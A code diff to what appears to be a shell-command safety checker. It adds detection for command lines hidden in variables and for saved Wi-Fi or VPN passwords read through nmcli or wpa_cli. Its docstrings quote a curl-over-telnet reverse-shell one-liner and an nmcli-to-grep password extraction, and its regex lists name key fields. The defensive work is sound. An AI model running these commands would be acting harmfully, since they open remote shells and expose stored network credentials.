@@ -28,6 +28,7 @@ from gate.shell import (
     Command,
     Finding,
     ShellAnalysis,
+    analyse,
     resolve_path,
 )
 
@@ -174,6 +175,34 @@ class CredentialChecks:
                         f"a function named {m.group(1)} reads a password without echo: a fake prompt that keeps "
                         f"what is typed{where}", cmd.span))
 
+    def words_from_variable(self, cmd: Command, analysis: ShellAnalysis, where: str,
+                            add: Callable[[Finding], None]) -> None:
+        """A command line kept in a variable set on the same line and run by its name (`C='curl -Ns
+        telnet://host:port'; $C </dev/null | sh | $C`): the shell splits the value into words, so the line runs
+        the program the value names with its options. The line is judged again with the value written in place;
+        what blocks there blocks here (a shell wired to the network, a download run). Judged once per line."""
+        first = next((c for c in analysis.commands if " " in c.argv[0] and (c.redirects or c.name in _SECRET_READERS)),
+                     None)
+        if first is not cmd or self.depth >= 2:  # type: ignore[attr-defined]
+            return
+        line = analysis.source
+        for name, value in analysis.assignments:
+            if " " not in value or not value.strip():
+                continue
+            line = re.sub(r"\$(?:\{" + re.escape(name) + r"\}|" + re.escape(name) + r"\b)", lambda _m, v=value: v, line,
+                          flags=re.IGNORECASE)
+        if line == analysis.source:
+            return
+        self.depth += 1  # type: ignore[attr-defined]
+        try:
+            found = self.run(analyse(line, cmd.cwd or None))  # type: ignore[attr-defined]
+        finally:
+            self.depth -= 1  # type: ignore[attr-defined]
+        blocking = next((f for f in found if f.rule.startswith("block.")), None)
+        if blocking is not None:
+            add(Finding(blocking.rule, Risk.CRITICAL, f"runs a command line kept in a variable ({cmd.argv[0][:50]}): "
+                        f"{blocking.reason}{where}", cmd.span))
+
     def cloud_metadata(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
         """A request to the instance metadata service: for its credential paths it reads the machine's cloud
         keys (as a credential file would), otherwise what the machine is and where it runs (recon)."""
@@ -230,8 +259,13 @@ class CredentialChecks:
         return None
 
     def reads(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
+        if analysis.assignments and " " in cmd.argv[0]:
+            self.words_from_variable(cmd, analysis, where, add)
         if not cmd.redirects and cmd.name not in _SECRET_READERS:
             return  # reads_secret names a secret read through `<`, or by one of these programs only
+        if cmd.upstream and cmd.name in _LINE_FILTERS and (keys := _wifi_keys_filtered(cmd, analysis)) is not None:
+            add(Finding("confirm.shell.secret-read", Risk.HIGH, f"{cmd.name} picks {keys}{where}", cmd.span))
+            return
         secret = self.reads_secret(cmd)
         if secret is None or secret == "the environment (tokens and keys)":
             return
@@ -264,6 +298,29 @@ class CredentialChecks:
             return
         add(Finding("confirm.shell.secret-read", Risk.HIGH if "/" in secret or "key" in secret else Risk.MEDIUM,
                     f"reads {secret}{where}", cmd.span))
+
+
+# programs that pick lines out of another's output
+_LINE_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ugrep", "awk", "gawk", "sed", "cut", "select-string",
+                           "sls", "findstr"})
+# the names saved Wi-Fi and VPN keys are printed under (NetworkManager's settings, wpa_supplicant's fields)
+_WIFI_KEY_WORDS = re.compile(r"psk|passw|wep[-_]?key|secrets?\b|pre-?shared|sae_password|leap-password")
+_CONNECTION_SHOW = re.compile(r"(^|\s)(c|con|conn|connection)\s+(s|sh|show)\b")
+
+
+def _wifi_keys_filtered(cmd: Command, analysis: ShellAnalysis) -> str | None:
+    """`nmcli connection show NAME | grep psk`: a network manager's saved connection printed and its key lines
+    picked out: the saved Wi-Fi (or VPN) password, asked for by name; None for any other filter."""
+    if not _WIFI_KEY_WORDS.search(" ".join(cmd.words[1:])):
+        return None
+    for i in cmd.upstream:
+        producer = analysis.commands[i]
+        words = " ".join(producer.words[1:])
+        if producer.name == "nmcli" and _CONNECTION_SHOW.search(words):
+            return "the saved Wi-Fi and VPN passwords out of nmcli's connection settings"
+        if producer.name == "wpa_cli" and ("get_network" in words or "dump" in words):
+            return "the saved Wi-Fi keys out of the supplicant's networks"
+    return None
 
 
 # programs that only show, page, filter or count lines on the terminal
